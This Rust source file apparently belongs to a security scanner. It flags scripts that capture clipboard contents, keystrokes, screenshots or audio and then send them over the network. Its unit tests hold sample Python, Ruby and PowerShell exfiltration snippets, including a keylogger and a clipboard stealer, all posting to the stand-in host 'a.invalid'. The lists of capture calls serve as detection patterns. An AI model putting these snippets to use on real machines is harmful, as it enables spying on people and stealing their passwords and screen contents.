//! What a person types, copies, says or has on the screen, in a script that sends.

use super::Told;
use super::flow::{Flow, name};
use super::lex::{Placed, Token};
use crate::finding::Severity;
use crate::rules::shell as rules;

/// What takes something of a person's: the name of its owner, its own, and what that is.
const WATCHES: &[(&str, &str, Watched)] = &[
    ("pyperclip", "paste", Watched::Copied),
    ("clipboard", "paste", Watched::Copied),
    ("Clipboard", "paste", Watched::Copied),
    ("win32clipboard", "GetClipboardData", Watched::Copied),
    ("keyboard", "Listener", Watched::Typed),
    ("keyboard", "on_press", Watched::Typed),
    ("keyboard", "on_release", Watched::Typed),
    ("keyboard", "hook", Watched::Typed),
    ("keyboard", "record", Watched::Typed),
    ("keyboard", "read_event", Watched::Typed),
    ("mss", "mss", Watched::Shown),
    ("ImageGrab", "grab", Watched::Shown),
    ("pyautogui", "screenshot", Watched::Shown),
    ("pyscreenshot", "grab", Watched::Shown),
    ("sounddevice", "rec", Watched::Said),
    ("sd", "rec", Watched::Said),
    ("sd", "InputStream", Watched::Said),
    ("cv2", "VideoCapture", Watched::Shown),
];

/// Programs that print it or write it down.
const PROGRAMS: &[(&str, Watched)] = &[
    ("pbpaste", Watched::Copied),
    ("wl-paste", Watched::Copied),
    ("screencapture", Watched::Shown),
    ("gnome-screenshot", Watched::Shown),
    ("scrot", Watched::Shown),
    ("maim", Watched::Shown),
    ("grim", Watched::Shown),
    ("arecord", Watched::Said),
];

/// What is taken.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Watched {
    Copied,
    Typed,
    Shown,
    Said,
}

impl Watched {
    const fn name(self) -> &'static str {
        match self {
            Self::Copied => "what was copied last",
            Self::Typed => "what is typed",
            Self::Shown => "what is seen",
            Self::Said => "what is said",
        }
    }
}

impl Flow<'_> {
    /// Tells of the first such thing that a script takes which sends. Passwords are copied; pictures and sounds may be what an
    /// honest server is asked for.
    pub(super) fn watches(&self, told: &mut Told<'_, '_>) {
        let taken = self.lexed.tokens.windows(3).find_map(|three| match three {
            [Placed { token: Token::Name(owner), at }, dot, member] if dot.token == Token::Sign('.') => {
                let member = name(&member.token)?;
                let is_it = |watch: &&(&str, &str, Watched)| watch.0 == owner.as_str() && watch.1 == member;
                Some((*at, WATCHES.iter().find(is_it)?.2))
            }
            _ => None,
        });
        let by_program = || {
            self.lexed.tokens.iter().find_map(|placed| match &placed.token {
                Token::Text(line) | Token::Command(line) => {
                    let program = line.split_whitespace().next()?;
                    PROGRAMS.iter().find(|(known, _)| *known == program).map(|(_, what)| (placed.at, *what))
                }
                _ => None,
            })
        };
        let Some((at, what)) = taken.or_else(by_program) else { return };
        let severity = if what == Watched::Copied { told.unless_asked() } else { Some(Severity::Warning) };
        told.tell(&rules::EXFIL, at, &format!("{} in a script that sends", what.name()), severity);
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    #[test]
    fn what_a_person_copies_types_or_sees_is_told_where_it_may_be_sent() {
        for (by, path, text, worst) in [
            (
                "python3",
                "a.py",
                "import pyperclip, requests\nrequests.post('http://a.invalid', data=pyperclip.paste())\n",
                Severity::Danger,
            ),
            (
                "ruby",
                "a.rb",
                "require 'clipboard'\nrequire 'net/http'\nNet::HTTP.post(URI('http://a.invalid'), Clipboard.paste)\n",
                Severity::Danger,
            ),
            (
                "pwsh",
                "a.ps1",
                "Get-Clipboard | ForEach-Object { irm http://a.invalid -Method Post -Body $_ }\n",
                Severity::Danger,
            ),
            (
                "python3",
                "a.py",
                "from pynput import keyboard\nimport requests\ndef on_press(k):\n    requests.post('http://a.invalid', data=str(k))\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n",
                Severity::Warning,
            ),
            (
                "python3",
                "a.py",
                "import mss, requests\nwith mss.mss() as s:\n    s.shot(output='/tmp/s.png')\nrequests.post('http://a.invalid', files={'f': open('/tmp/s.png', 'rb')})\n",
                Severity::Warning,
            ),
            (
                "python3",
                "a.py",
                "import socket, subprocess\nt = subprocess.run(['pbpaste'], capture_output=True).stdout\nsocket.create_connection(('a.invalid', 9)).sendall(t)\n",
                Severity::Danger,
            ),
            (
                "python3",
                "a.py",
                "import subprocess\nsubprocess.run(['screencapture', '-x', '/tmp/a.png'])\nsubprocess.run(['curl', '-F', 'f=@/tmp/a.png', 'https://a.invalid/f'])\n",
                Severity::Warning,
            ),
            ("python3", "a.py", "import pyperclip\nprint(len(pyperclip.paste()))\n", Severity::Info),
        ] {
            assert_eq!(of(by, path, text), Some(worst), "{text}");
        }
    }
}
